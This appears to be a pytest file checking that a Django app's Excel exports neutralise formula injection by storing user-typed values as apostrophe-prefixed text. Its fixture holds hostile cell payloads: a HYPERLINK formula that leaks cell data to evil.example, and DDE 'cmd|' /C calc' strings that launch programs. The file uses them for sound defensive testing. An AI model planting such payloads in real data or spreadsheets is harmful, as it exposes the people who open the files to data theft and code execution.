"""No spreadsheet export runs what a user typed (SECURITY.md 34).

Titles, names and numbers that a spreadsheet would take for a formula are
typed into every field the exports show; every workbook the app writes must
hold them as text, prefixed with an apostrophe.
"""

from __future__ import annotations

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from chidao.tasks.models import Task

from .conftest import World

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\x00")
HOSTILE = {
    "content": '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "summary": "+cmd|' /C calc'!A0",
    "number": "-2+3/UBND-KT",
    "agency": "@SUM(1+1)*cmd|' /C calc'!A0",
    "sector": "\t=1+1",
    "leader": "=1+1 Nguyễn Thanh Bình",
    "unit": "\r=2+2",
}


@pytest.fixture
def hostile(world: World) -> World:
    Task.objects.filter(pk=world.task.pk).update(content=HOSTILE["content"])
    world.directive.summary = HOSTILE["summary"]
    world.directive.number = HOSTILE["number"]
    world.directive.save()
    world.agencies["stc"].name = HOSTILE["agency"]
    world.agencies["stc"].save()
    world.agencies["stc_unit"].name = HOSTILE["unit"]
    world.agencies["stc_unit"].save()
    world.sector.name = HOSTILE["sector"]
    world.sector.save()
    leader = world.users["leader"]
    leader.full_name = HOSTILE["leader"]
    leader.save(update_fields=["full_name"])
    return world


EXPORTS = [
    ("agency_officer", "reports:task_list_xlsx", {}, {}),
    ("office_lead", "reports:task_list_xlsx", {}, {}),
    ("office_lead", "reports:periodic_download", {"fmt": "xlsx"}, {}),
    (
        "office_lead",
        "reports:periodic_download",
        {"fmt": "xlsx"},
        {"group_by": "leader"},
    ),
    (
        "office_lead",
        "reports:periodic_download",
        {"fmt": "xlsx"},
        {"group_by": "sector"},
    ),
    ("leader", "reports:usage_download", {"fmt": "xlsx"}, {}),
    ("agency_officer", "api:reports-summary", {}, {"format": "xlsx"}),
    (
        "office_lead",
        "api:reports-summary",
        {},
        {"format": "xlsx", "group_by": "leader"},
    ),
]


def _cells(content: bytes) -> list[object]:
    book = load_workbook(io.BytesIO(content))
    return [
        cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
    ]


@pytest.mark.parametrize(("role", "name", "kwargs", "query"), EXPORTS)
def test_line_34_exported_cells_are_never_formulas(
    hostile: World, role: str, name: str, kwargs: dict, query: dict
) -> None:
    period = {"from": "2026-10-01", "to": "2026-12-31"}
    if name != "reports:task_list_xlsx":
        query = {**period, "period": "range", **query}
    response = hostile.client(role).get(reverse(name, kwargs=kwargs), query)
    assert response.status_code == 200
    cells = _cells(response.getvalue())
    formulas = [c.coordinate for c in cells if c.data_type == "f"]
    assert formulas == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert [t for t in texts if t.startswith(TRIGGERS)] == []
    shown = [t for t in texts if any(v in t for v in HOSTILE.values() if v.strip())]
    assert shown, "none of the typed values is in this export"
    for text in shown:
        if any(text.startswith(v.strip()[:1]) for v in HOSTILE.values()):
            pytest.fail(f"unprefixed: {text!r}")
        if text.lstrip("'") in HOSTILE.values():
            assert text.startswith("'"), text
